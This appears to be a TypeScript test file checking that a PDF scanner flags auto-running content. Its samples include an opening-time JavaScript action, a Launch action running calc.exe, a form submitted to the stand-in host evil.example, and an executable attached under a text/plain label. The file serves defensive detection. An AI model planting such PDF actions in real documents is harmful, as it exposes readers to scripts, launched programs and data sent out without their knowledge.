import { PDFArray, PDFDocument, PDFName, PDFString, type PDFObject } from '@cantoo/pdf-lib';
import { expect, test } from 'vitest';
import { checkPdf } from './pdf-check.ts';

type Change = (pdf: PDFDocument) => void | Promise<void>;

async function build(change: Change): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  pdf.addPage([200, 200]);
  await change(pdf);
  // In compressed objects, where a search of the bytes would find nothing.
  return pdf.save({ useObjectStreams: true });
}

const action = (type: string, more: Record<string, PDFObject | string> = {}) => ({
  Type: 'Action',
  S: PDFName.of(type),
  ...more,
});
const onOpening =
  (type: string, more?: Record<string, PDFObject | string>): Change =>
  (pdf) =>
    pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj(action(type, more)));
const onClick =
  (type: string, more?: Record<string, PDFObject | string>): Change =>
  (pdf) => {
    const link = pdf.context.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [0, 0, 10, 10],
      A: action(type, more),
    });
    pdf.getPage(0).node.set(PDFName.of('Annots'), pdf.context.obj([pdf.context.register(link)]));
  };

test.each<[string, Change]>([
  ['a script on opening', onOpening('JavaScript', { JS: PDFString.of('app.alert(1)') })],
  ['a script of the document', (pdf) => pdf.addJavaScript('hello', 'app.alert(1)')],
  ['a program on a click', onClick('Launch', { F: PDFString.of('calc.exe') })],
  ['a form that is sent', onClick('SubmitForm', { F: PDFString.of('https://evil.example') })],
  ['another file inside', (pdf) => pdf.attach(Buffer.from('MZ'), 'setup.exe', { mimeType: 'text/plain' })],
])('%s runs by itself', async (_, change) => {
  expect((await checkPdf(await build(change))).runsByItself).toBe(true);
});

test.each<[string, Change]>([
  ['nothing but a page', () => {}],
  [
    'a page that it opens at',
    (pdf) => {
      const target = PDFArray.withContext(pdf.context);
      target.push(pdf.getPage(0).ref);
      target.push(PDFName.of('Fit'));
      pdf.catalog.set(PDFName.of('OpenAction'), target);
    },
  ],
  ['a page to go to', onOpening('GoTo', { D: PDFString.of('chapter') })],
  ['a link to the web', onClick('URI', { URI: PDFString.of('https://www.gov.il') })],
])('%s does not', async (_, change) => {
  expect((await checkPdf(await build(change))).runsByItself).toBe(false);
});
